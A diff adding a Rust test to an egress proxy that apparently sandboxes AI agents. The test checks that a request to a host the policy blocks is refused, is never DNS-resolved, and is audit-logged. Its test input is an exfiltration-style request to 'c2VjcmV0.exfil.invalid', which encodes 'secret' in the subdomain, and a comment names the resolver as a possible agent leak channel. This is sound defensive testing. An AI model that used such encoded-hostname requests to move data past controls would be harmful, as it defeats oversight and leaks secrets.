@@ -568,3 +568,19 @@ async fn https_is_not_subject_to_host_binding() {
     assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
     assert_eq!(seen.count(), 1);
 }
+
+#[tokio::test]
+async fn plain_http_host_blocked_by_policy_is_refused_without_a_lookup() {
+    // Binding is only attempted for requests that would be forwarded: a name the policy blocks is never resolved
+    // (so an agent cannot use the daemon's resolver as a channel), and the answer is the policy's 403.
+    let w = world(&policy(&["allowed.test"], &[])).await;
+    let (up, seen) = http_upstream().await;
+    let tcp = w.proxy.connect_as(up).await;
+    let (status, _, body) = send(tcp, false, get("/exfil", "c2VjcmV0.exfil.invalid")).await;
+    assert_eq!(status, 403, "{}", String::from_utf8_lossy(&body));
+    assert_eq!(seen.count(), 0);
+    let records = w.proxy.audit_records().await;
+    assert_eq!(records.len(), 1);
+    assert_eq!(records[0]["decision"]["reason"], "default");
+    assert_eq!(outcome(&records[0]), ("blocked", Some(403)));
+}
